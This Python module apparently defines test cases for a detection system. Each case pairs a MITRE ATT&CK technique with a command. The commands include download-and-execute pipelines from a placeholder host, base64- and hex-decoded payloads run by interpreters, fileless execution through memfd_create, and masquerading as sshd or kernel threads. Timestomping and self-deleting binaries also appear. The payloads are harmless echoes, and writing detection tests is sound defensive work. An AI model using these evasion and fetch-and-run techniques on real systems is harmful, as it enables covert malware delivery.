"""Code that came from elsewhere: fetched, decoded, or held in no file."""

from __future__ import annotations

from attacks.cases.acts.base import HIGH, LOW, Act
from live.programs import Language

_FETCH = "download_piped_to_interpreter"


def _fetched(name: str, rule: str, text: str, *programs: str, language: Language = Language.BASH, **more: bool) -> Act:
    expects = "ran what was fetched"
    return Act(name, rule, "T1105", language, text, expects, programs=programs or ("curl",), in_cell=True, **more)


FETCHED = (
    _fetched("fetch-curl-sh", _FETCH, "curl -fsS $WEB/run.sh | sh"),
    _fetched("fetch-wget-bash", _FETCH, "wget -qO- $WEB/run.sh | bash -s -- -y", "wget"),
    _fetched("fetch-curl-python", _FETCH, "curl -fsS $WEB/run.py | $PYTHON -"),
    _fetched("fetch-curl-perl", _FETCH, "curl -fsS $WEB/run.pl | perl"),
    _fetched("fetch-through-tee", _FETCH, "curl -fsS $WEB/run.sh | tee kept | sh"),
    _fetched("fetch-busybox", _FETCH, "busybox wget -qO- $WEB/run.sh | busybox sh", "busybox"),
    _fetched("fetch-by-fifo", _FETCH, "mkfifo way; curl -fsS $WEB/run.sh > way & sh < way; wait"),
    _fetched("fetch-renamed", _FETCH, "cp $(command -v bash) tool; (curl -fsS $WEB/run.sh; sleep 0.5) | ./tool"),
    _fetched(
        "fetch-python-pipes",
        _FETCH,
        """
import os, subprocess
fetch = subprocess.Popen(["curl", "-fsS", os.environ["WEB"] + "/run.sh"], stdout=subprocess.PIPE)
print(subprocess.run(["bash"], stdin=fetch.stdout, capture_output=True, text=True).stdout)
""",
        language=Language.PYTHON,
    ),
    _fetched("fetch-process-substitution", "download_substituted", "bash -c 'bash <(curl -fsS $WEB/run.sh)'"),
    _fetched("fetch-substitution-in-script", "download_run_from_descriptor", "bash <(wget -qO- $WEB/run.sh)", "wget"),
    _fetched("fetch-command-substitution", "download_substituted", "bash -c 'eval \"$(curl -fsS $WEB/run.sh)\"'"),
    _fetched(
        "fetch-python-inline",
        "download_substituted",
        "$PYTHON -c \"import os, urllib.request as u; exec(u.urlopen(os.environ['WEB'] + '/run.py').read())\"",
        "true",
    ),
    _fetched(
        "fetch-then-run-program",
        "download_then_run",
        "curl -fsS -o tool $WEB/program && chmod +x tool && ./tool ran what was fetched",
    ),
    _fetched(
        "fetch-then-run-wget",
        "download_then_run",
        "wget -qO job $WEB/program; chmod 755 job; (exec -a python3 ./job ran what was fetched)",
        "wget",
    ),
    Act(
        "fetch-evaluated-in-process",
        "download_substituted",
        "T1105",
        Language.PYTHON,
        "import os, urllib.request as u; exec(u.urlopen(os.environ['WEB'] + '/run.py').read())",
        "ran what was fetched",
        unseen="the text goes from a connection into the interpreter: outside a kernel nothing tells of it",
    ),
)
_CODE = "ZWNobyByYW4gd2hhdCB3YXMgZGVjb2RlZA=="
_PYTHON_CODE = "cHJpbnQoInJhbiB3aGF0IHdhcyBkZWNvZGVkIik="


def _decoded(name: str, text: str, *programs: str, language: Language = Language.BASH) -> Act:
    expects = "ran what was decoded"
    cell = language is Language.BASH
    return Act(name, "encoded_to_interpreter", "T1140", language, text, expects, programs=programs, in_cell=cell)


DECODED = (
    _decoded("decode-base64-sh", f"echo {_CODE} | base64 -d | sh"),
    _decoded("decode-base64-python", f"echo {_PYTHON_CODE} | base64 --decode | $PYTHON -"),
    _decoded("decode-openssl-bash", f"echo {_CODE} | openssl base64 -d | bash", "openssl"),
    _decoded(
        "decode-hexadecimal",
        "echo 6563686f2072616e20776861742077617320\\\n6465636f646564 | tr -d ' ' | xxd -r -p | sh",
        "xxd",
    ),
    _decoded("decode-file-into-odd-shell", f"cp /bin/dash x; echo {_CODE} > c; (base64 -d c; sleep 0.5) | ./x"),
    _decoded("decode-substituted", f"bash -c 'bash -c \"$(echo {_CODE} | base64 -d)\"'"),
    _decoded("decode-python-inline", f"$PYTHON -c \"import base64; exec(base64.b64decode('{_PYTHON_CODE}'))\""),
    _decoded("decode-perl-inline", f"perl -MMIME::Base64 -e 'system(decode_base64(\"{_CODE}\"))'", "perl"),
    _decoded(
        "decode-node-inline", "node -e \"eval(atob('Y29uc29sZS5sb2coInJhbiB3aGF0IHdhcyBkZWNvZGVkIik='))\"", "node"
    ),
    _decoded(
        "decode-perl-pipes",
        f"""
open my $shell, '|-', 'base64 -d | sh' or die;
print $shell "{_CODE}";
close $shell;
""",
        language=Language.PERL,
    ),
)
_MEMORY = """
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    int file = memfd_create("x", FLAGS), program = open("/bin/echo", O_RDONLY);
    while (sendfile(file, program, 0, 1 << 20) > 0);
    char *argv[] = {"python3", "ran", "from", "memory", 0}, *none[] = {0};
    RUN;
}
"""


def _fileless(name: str, flags: str, run: str, *options: str) -> Act:
    text = _MEMORY.replace("FLAGS", flags).replace("RUN", run)
    return Act(name, "fileless_program", "T1620", Language.C, text, "ran from memory", severity=HIGH, flags=options)


WITHOUT_FILE = (
    _fileless("memory-fexecve", "MFD_CLOEXEC", "fexecve(file, argv, none)"),
    _fileless("memory-execveat", "0", 'syscall(SYS_execveat, file, "", argv, none, AT_EMPTY_PATH)', "-static"),
    _fileless("memory-by-path", "0", 'dup2(file, 77), close(file), execve("/proc/self/fd/77", argv, none)'),
    Act(
        "memory-python",
        "fileless_program",
        "T1620",
        Language.PYTHON,
        """
import os, subprocess
file = os.memfd_create("x", 0)
os.write(file, open("/bin/echo", "rb").read())
ran = subprocess.run([f"/proc/self/fd/{file}", "ran from memory"], pass_fds=[file], capture_output=True)
print(ran.stdout.decode())
""",
        "ran from memory",
        severity=HIGH,
        in_cell=True,
    ),
    Act(
        "memory-shared-folder",
        "program_in_shared_memory_runs",
        "T1620",
        Language.BASH,
        "f=/dev/shm/x$$; cp /bin/echo $f && $f ran from memory; rm $f",
        "ran from memory",
        in_cell=True,
    ),
    Act(
        "memory-shared-script",
        "program_in_shared_memory_runs",
        "T1620",
        Language.BASH,
        "f=/dev/shm/y$$; echo 'echo ran from memory' > $f; sh $f; rm $f",
        "ran from memory",
        in_cell=True,
    ),
)
DISGUISED = (
    Act(
        "disguise-hidden",
        "hidden_program_runs",
        "T1564.001",
        Language.BASH,
        "mkdir -p .cache; cp /bin/echo .cache/.update && .cache/.update ran while hidden",
        "ran while hidden",
        in_cell=True,
    ),
    Act(
        "disguise-service",
        "masquerading_service",
        "T1036.005",
        Language.BASH,
        "mkdir -p .x11; cp /bin/echo .x11/sshd && .x11/sshd ran as a service",
        "ran as a service",
        in_cell=True,
    ),
    Act(
        "script-from-descriptor",
        "script_from_descriptor",
        "T1620",
        Language.PYTHON,
        """
import os, subprocess
script = os.memfd_create("a")
os.write(script, b"echo ran from memory\\n")
print(subprocess.run(["/bin/sh", f"/proc/{os.getpid()}/fd/{script}"], capture_output=True, text=True).stdout)
""",
        "ran from memory",
        in_cell=True,
    ),
    Act(
        "times-of-system-file",
        "times_taken_from_system_file",
        "T1070.006",
        Language.BASH,
        "cp /bin/echo helper; touch -r /bin/ls helper; [ helper -ot /proc/1 ] && echo looks old",
        "looks old",
        severity=LOW,
        in_cell=True,
    ),
    Act(
        "disguise-kernel-thread",
        "masquerading_kernel_thread",
        "T1036",
        Language.BASH,
        "(exec -a '[kworker/u4:2]' sleep 1) & sleep 0.3; tr '\\0' ' ' < /proc/$!/cmdline; wait",
        "[kworker/u4:2]",
        severity=HIGH,
        in_cell=True,
    ),
    Act(
        "disguise-kernel-thread-python",
        "masquerading_kernel_thread",
        "T1036",
        Language.PYTHON,
        """
import subprocess, time
child = subprocess.Popen(["[kthreadd]", "1"], executable="/bin/sleep")
time.sleep(0.3)
print(open(f"/proc/{child.pid}/cmdline").read())
child.wait()
""",
        "[kthreadd]",
        severity=HIGH,
        in_cell=True,
    ),
    Act(
        "disguise-deleted",
        "program_deleted",
        "T1070.004",
        Language.C,
        """
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    if (system("cp /bin/readlink gone")) return 1;
    int program = open("gone", O_RDONLY);
    unlink("gone");
    char *argv[] = {"gone", "/proc/self/exe", 0}, *none[] = {0};
    fexecve(program, argv, none);
}
""",
        "(deleted)",
        severity=LOW,
    ),
)
CASES: tuple[Act, ...] = (*FETCHED, *DECODED, *WITHOUT_FILE, *DISGUISED)
